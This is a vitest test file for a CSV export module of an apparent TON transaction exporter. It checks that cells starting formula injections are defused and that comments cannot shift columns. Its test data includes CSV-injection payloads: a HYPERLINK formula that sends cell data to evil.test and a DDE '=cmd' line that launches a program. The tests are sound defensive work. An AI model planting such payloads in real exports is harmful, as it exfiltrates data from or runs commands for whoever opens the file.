import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { csvLine } from '../../../../src/domain/export/csv.ts'
import { frameOf, pieceOf } from '../../../../src/domain/export/format.ts'
import { times } from '../../../support/times.ts'
import { BOB, message, transaction } from '../../../support/transaction.ts'

/** Rows that a reader of RFC 4180 finds in a file, which ends its lines with CR and LF. */
const read = (text: string): string[][] => parse(text, { record_delimiter: '\r\n' })

const NASTY = [
  '=HYPERLINK("http://evil.test?x="&A1,"free")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1',
  '\r=1',
  '"',
  '""',
  'a,b',
  'a;b',
  'a\r\nb',
  'a\nb',
  '\n=1',
  ' a ',
  '',
  "'",
  'Привет, 世界 🎁',
]

/** Pieces of a text between the separators of any spreadsheet, and the separators. */
const pieces = (text: string) => text.split(/([,;\t\r\n])/)
const isFormula = (piece: string) => /^[" \u200b\u00ad\ufeff]*[=+\-@＝＋－＠]/.test(piece)

/** A cell as a reader gets it: unless it is a number, each piece that is a formula has an apostrophe before it. */
function expected(text: string): string {
  if (/^-?\d+(?:\.\d+)?$/.test(text)) return text
  const guarded = pieces(text).map(piece => (isFormula(piece) ? `'${piece}` : piece))
  return `${/^[\t\r\n]/.test(text) ? "'" : ''}${guarded.join('')}`
}

test('a CSV reader gets every difficult text back, with formulas defused', () => {
  const table = NASTY.map(text => ['first', text, 'last'])
  const cells = read(table.map(csvLine).join(''))
  expect(cells).toEqual(table.map(line => line.map(expected)))
  for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+@\t\r\n]/)
})

test('a CSV reader gets any text back', () => {
  const texts = fc.array(fc.string({ unit: fc.constantFrom(...'ab"\',;\r\n\t =+-@1.＝ü\u200b\u00ad') }), {
    minLength: 2,
    maxLength: 6,
  })
  fc.assert(
    fc.property(texts, line => {
      expect(read(csvLine(line))).toEqual([line.map(expected)])
    }),
    { numRuns: times(2000) },
  )
})

test('no comment shifts the columns of a CSV row', () => {
  for (const format of ['csv', 'koinly', 'cointracking'] as const) {
    const all = NASTY.map(text => transaction({ inMessage: message({ body: { kind: 'comment', text } }) }))
    const names = { jettons: {}, find: () => ({ isWallet: true, name: '=1,"x"\r\n', isScam: false }) }
    const { text } = pieceOf(format, all, 'toncenter', names)
    const provenance = {
      site: '',
      network: '',
      address: BOB,
      from: '',
      to: '',
      complete: true,
      source: '',
      generated: '',
      opening_balance: null,
      closing_balance: null,
      jettons: [],
    }
    const [head, ...lines] = read(frameOf(format, provenance).head + text)
    expect(lines).toHaveLength(format === 'cointracking' ? 2 * all.length : all.length)
    for (const line of lines) expect(line).toHaveLength(head!.length)
  }
})
